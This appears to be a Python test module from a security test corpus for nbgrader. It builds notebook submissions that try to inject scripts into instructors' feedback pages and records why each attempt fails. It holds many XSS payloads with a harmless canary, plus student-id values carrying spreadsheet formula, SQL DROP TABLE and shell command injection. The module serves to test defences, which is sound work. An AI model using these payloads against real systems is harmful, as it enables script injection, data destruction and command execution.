"""Attacks on the people who read the results: scripts in pages, formulas, odd student ids."""

from __future__ import annotations

import json
from collections.abc import Callable

from corpus.attack import SLEEP, Submission, answer, attack, cell

F = "pages"
FIRE = "window.owned=1"

HTML = [
    ("script", f"<script>{FIRE}</script>"),
    ("img-onerror", f"<img src=x onerror='{FIRE}'>"),
    ("svg-onload", f"<svg onload='{FIRE}'><animate onbegin='{FIRE}' attributeName=x dur=1s></svg>"),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>'),
    (
        "mutated",
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={FIRE}&gt;'>",
    ),
    (
        "details-toggle",
        f"<details open ontoggle='{FIRE}'>x</details><video><source onerror='{FIRE}'></video>",
    ),
    (
        "meta-refresh",
        "<meta http-equiv=refresh content='0;url=data:text/html,owned'>"
        "<base href='http://127.0.0.1:9/'>",
    ),
    (
        "style-and-form",
        "<style>@import url(//127.0.0.1:9/x);body{display:none}</style>"
        f"<form action='/formgrader/api'><button onfocus='{FIRE}' autofocus>x</form>",
    ),
    ("broken-out", f"</pre></div></script><script>{FIRE}</script>]]>--><script>{FIRE}</script>"),
]
for name, html in HTML:
    cell(
        F,
        f"html-{name}",
        "a script in the instructor's page, through an HTML output",
        "page"
        if name not in ("mutated", "meta-refresh", "style-and-form", "details-toggle")
        else "none",
        f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))",
        why="the canary needs more than loading the page",
        keeps=True,
    )


@attack(
    F,
    "a script in a Markdown cell",
    "none",
    why="nbgrader's feedback template disables scripts in Markdown",
    keeps=True,
)
def markdown_cell(work: Submission) -> None:
    work.text(
        "\n\n".join(html for _, html in HTML)
        + f"\n\n[x](javascript:{FIRE}) <a href='data:text/html,<script>{FIRE}</script>'>y</a>"
    )


@attack(F, "a script in an attachment", "none", why="needs a click", keeps=True)
def attachment(work: Submission) -> None:
    cell = work.text("![x](attachment:a.svg) ![y](attachment:b.html)")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{FIRE}'/>"
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": svg},
        "b.html": {"text/html": f"<script>{FIRE}</script>"},
    }


@attack(
    F,
    "a script in the title, the author and the language of the notebook",
    "none",
    why="the page writes none of them",
    keeps=True,
)
def notebook_metadata(work: Submission) -> None:
    payload = f"</title></style></script><script>{FIRE}</script>"
    work.notebook["metadata"].update(
        title=payload,
        authors=[{"name": payload}],
        language_info={"name": payload, "pygments_lexer": "ipython3", "file_extension": payload},
    )
    work.notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {payload: {}}, "version_major": 2}
    }


@attack(
    F,
    "a script in the metadata of a cell",
    "none",
    why="the template does not write it",
    keeps=True,
)
def cell_metadata_in_page(work: Submission) -> None:
    payload = f"'\"><script>{FIRE}</script>"
    cell = work.add("1")
    cell["metadata"].update(tags=[payload], name=payload, collapsed=payload)


cell(
    F,
    "svg-output",
    "a script in an SVG",
    "none",
    "from IPython.display import SVG, display\n"
    f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{FIRE}</script></svg>'))",
    why="shown as a picture",
    keeps=True,
)
cell(
    F,
    "javascript-output",
    "JavaScript as an output",
    "none",
    f"from IPython.display import Javascript, display\ndisplay(Javascript('{FIRE}'))",
    why="the feedback page prefers its text",
    keeps=True,
)
cell(
    F,
    "markdown-output",
    "a script in a Markdown output",
    "page",
    "from IPython.display import Markdown, display\n"
    f"display(Markdown('<script>{FIRE}</script> <img src=x onerror=\"{FIRE}\">'))",
    keeps=True,
)
cell(
    F,
    "latex-output",
    "a link and a script through MathJax",
    "none",
    "from IPython.display import Latex, display\n"
    f"display(Latex(r'$\\href{{javascript:{FIRE}}}{{x}}\\unicode{{x}}"
    "\\require{html}\\style{x}{y}$'))",
    why="needs MathJax from a network, and a click",
    keeps=True,
)
cell(
    F,
    "raw-mime-outputs",
    "scripts by odd MIME types and odd metadata",
    "none",
    f"""
from IPython.display import publish_display_data as show
bad = "<script>{FIRE}</script>"
for kind in ("text/html", "TEXT/HTML", "text/html; charset=utf-8", "image/svg+xml",
             "application/xhtml+xml", "application/javascript", "text/vnd.mermaid",
             "application/vnd.jupyter.widget-view+json", "text/plain"):
    show({{kind: bad}}, {{kind: {{"isolated": True, "width": "'><script>{FIRE}</script>"}}}})
show({{"image/png": "'><script>{FIRE}</script>", "text/plain": bad}},
     {{"image/png": {{"alt": bad, "width": "1' onload='{FIRE}"}}}})
show({{"text/html": ["<scr", "ipt>{FIRE}</scr", "ipt>"]}})
""",
    why="the feedback command fails for this student",
    keeps=True,
)
cell(
    F,
    "plain-text-and-errors",
    "a script in plain text, names of errors and tracebacks",
    "none",
    f"""
print("<script>{FIRE}</script>")
import sys
print("<script>{FIRE}</script>", file=sys.stderr)
raise type("<script>{FIRE}</script>", (Exception,), {{}})(
    "<img src=x onerror={FIRE}>\\x1b[31;<script>{FIRE}</script>m")
""",
    why="nbconvert escapes text",
    keeps=True,
)
answer(
    F,
    "message-of-an-error",
    "a script in the error that a test shows, and a forged verdict",
    "none",
    f"def transpose(a): raise AssertionError('<script>{FIRE}</script>"
    "<b>Score: 2/2</b> {{7*7}} {% raw %}')",
    why="nbconvert escapes text",
    keeps=True,
)
cell(
    F,
    "ansi-in-html",
    "markup through terminal colors",
    "none",
    f"print('\\x1b[38;2;1;2;3\"><script>{FIRE}</script>m x "
    f"\\x1b]8;;javascript:{FIRE}\\x07click\\x1b]8;;\\x07')",
    why="nbconvert escapes first",
    keeps=True,
)


@attack(F, "scripts in the source of a cell", "none", why="highlighted as text", keeps=True)
def script_in_source(work: Submission) -> None:
    work.add(f"# </pre></div><script>{FIRE}</script>\n'''</script><script>{FIRE}</script>'''\n1")


@attack(F, "outputs that no kernel sent", "none", why="nbgrader clears outputs", keeps=True)
def outputs_forged_in_file(work: Submission) -> None:
    work.add("pass")["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": f"<script>{FIRE}</script>"},
        }
    ]
    work.raw = json.dumps(work.notebook).encode()


def named(name: str) -> Callable[[Submission], None]:
    """Return a function of this name that leaves the submission honest."""

    def honest(_work: Submission) -> None: ...

    honest.__name__ = name
    return honest


WHO = "students"
IDS = [
    ("id-formula", "=cmd|' C'!A0", "a formula in the exported table"),
    ("id-markup", "<script>window.owned=1<", "a script in the name of a student"),
    ("id-option", "--force", "an option for a command"),
    ("id-sql", "x'; DROP TABLE student;--", "SQL in the name of a student"),
    ("id-glob", "[a-z]*", "a pattern that means other students"),
    ("id-star", "*", "a pattern that means all students"),
    ("id-spaces", " aaa-honest ", "the name of another, with spaces"),
    ("id-case", "AAA-HONEST", "the name of another, in capitals"),
    ("id-accents", "zoë åström 中", "letters of many scripts"),
    ("id-combining", "zoe\u0308", "two ways to write one letter"),
    ("id-bidi", "\u202ezzz", "a name that reads backwards"),
    ("id-long", "n" * 200, "two hundred letters"),
    ("id-line", "a\nb", "a line end in a name"),
    ("id-codes", "\x1b[2Jx", "terminal codes in a name"),
    ("id-dots", "zz..zz", "dots"),
    ("id-shell", f"$(sleep {SLEEP})", "a command for a shell"),
]
for name, student, gain in IDS:
    attack(
        WHO,
        gain,
        "abort" if name == "id-line" else "none",
        why="a name is a name there too; tables and terminals show it as it is",
        student=student,
        keeps=name != "id-line",
    )(named(name))
